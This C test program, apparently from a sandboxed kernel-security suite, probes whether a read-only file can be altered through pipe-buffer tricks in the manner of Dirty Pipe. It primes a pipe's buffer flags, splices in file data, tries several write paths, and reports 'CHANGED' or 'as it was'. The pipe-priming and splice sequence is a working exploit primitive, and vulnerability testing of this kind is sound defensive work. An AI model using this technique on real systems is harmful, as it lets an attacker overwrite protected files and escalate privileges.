/* Changes a file that it may only read by way of a pipe, as Dirty Pipe did; says what the file is then. */
#include "attack.h"
#include <fcntl.h>
#include <sys/sendfile.h>
#include <sys/syscall.h>
#include <sys/uio.h>

static char block[4096];

/* Leaves every buffer of the pipe as one that takes more, if the kernel forgets to say otherwise. */
static void prepare(const int ends[2]) {
  for (int size = fcntl(ends[1], F_GETPIPE_SZ); size > 0; size -= sizeof block)
    if (write(ends[1], block, sizeof block) < 0) _exit(3);
  for (int size = fcntl(ends[1], F_GETPIPE_SZ); size > 0; size -= sizeof block)
    if (read(ends[0], block, sizeof block) < 0) _exit(4);
}

int main(int argc, char **argv) {
  only_in_a_sandbox();
  if (argc < 3) return 2;
  int file = open(argv[1], O_RDONLY), ends[2], others[2];
  char seen[3] = "";
  if (file < 0 || pipe(ends) || pipe(others)) return 5;
  prepare(ends);
  if (splice(file, &(loff_t){0}, ends[1], NULL, 1, 0) != 1) return 6;
  if (write(ends[1], "XX", 2) != 2) return 7;
  if (tee(ends[0], others[1], 3, 0) <= 0 || write(others[1], "XX", 2) != 2) return 8;
  if (pipe(ends)) return 5;
  prepare(ends);
  if (sendfile(ends[1], file, &(off_t){0}, 1) != 1 || write(ends[1], "XX", 2) != 2) return 9;
  report("lend memory", syscall(SYS_vmsplice, ends[1], &(struct iovec){block, sizeof block}, 1, 8));
  report("splice into it", splice(ends[0], NULL, file, &(loff_t){0}, 1, 0));
  report("send into it", sendfile(file, open("/dev/zero", O_RDONLY), NULL, 1));
  report("copy into it", copy_file_range(file, &(loff_t){1}, file, &(loff_t){0}, 1, 0));
  puts(pread(file, seen, 2, 0) == 2 && !strncmp(seen, argv[2], 2) ? "as it was" : "CHANGED");
  return 0;
}
